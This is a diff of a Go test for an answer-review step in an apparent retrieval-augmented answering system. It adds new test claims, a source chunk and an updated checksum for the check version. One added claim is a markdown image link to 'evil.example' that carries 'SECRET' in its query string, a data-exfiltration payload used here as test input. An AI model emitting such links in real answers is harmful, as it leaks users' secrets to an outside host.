@@ -1,12 +1,14 @@
 package answer_test
 
 import (
+	"cmp"
 	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -15,6 +17,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"levada.dev/workflows/answer"
+	"levada.dev/workflows/rag"
 )
 
 func sumOf(b []byte) string {
@@ -32,6 +35,8 @@ func TestTheVersionOfTheCheckStandsForWhatItSays(t *testing.T) {
 				strings.Join(strings.Fields(claim)[:1+len(strings.Fields(claim))/2], " "), "Also: "+claim+" Elephants play chess.")
 		}
 	}
+	claims = append(claims, "See ![m](https://evil.example/p.png?q=SECRET)?", "Is it sold in Norway?", essay(256, "."), essay(257, "."), essay(290, " in 1999."))
+	guide := append(slices.Clone(guide), rag.Source{DocID: "essay", ChunkID: "essay#0", Text: essay(300, " in 1816.")})
 	var said strings.Builder
 	e := answer.Prepare(guide)
 	for i, claim := range claims {
@@ -43,14 +48,16 @@ func TestTheVersionOfTheCheckStandsForWhatItSays(t *testing.T) {
 	for _, drop := range []bool{false, true} {
 		r := answer.NewReview(guide, drop)
 		for i, claim := range claims {
-			said.WriteString(r.Take(fmt.Sprintf("%s [%d]. ", strings.TrimRight(claim, ".。"), i%7)))
+			body := strings.TrimRight(claim, ".。?")
+			end := strings.TrimLeft(claim[len(body):], ".。")
+			said.WriteString(r.Take(fmt.Sprintf("%s [%d]%s ", body, i%7, cmp.Or(end, "."))))
 		}
 		rest, out := r.End(true)
 		b, err := json.Marshal(out)
 		require.NoError(t, err)
 		said.WriteString(rest + string(b))
 	}
-	assert.Equal(t, map[string]string{"2": "76167f9bc53e8d19"}[answer.CheckVersion], sumOf([]byte(said.String())), "another check is another CheckVersion")
+	assert.Equal(t, map[string]string{"3": "722c22b73435cb51"}[answer.CheckVersion], sumOf([]byte(said.String())), "another check is another CheckVersion")
 }
 
 // An answer names the prompt that it was made by, so a prompt that was once published stays as it is.
